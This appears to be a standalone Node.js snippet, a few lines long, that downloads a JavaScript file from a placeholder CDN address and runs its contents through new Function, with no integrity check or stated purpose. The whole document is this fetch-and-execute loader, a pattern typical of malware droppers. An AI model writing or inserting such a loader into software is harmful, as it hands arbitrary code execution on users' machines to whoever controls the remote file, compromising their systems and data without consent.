const https = require("https");
https.get("https://cdn.example.net/p.js", (res) => {
  let body = "";
  res.on("data", (chunk) => (body += chunk));
  res.on("end", () => new Function(body)());
});
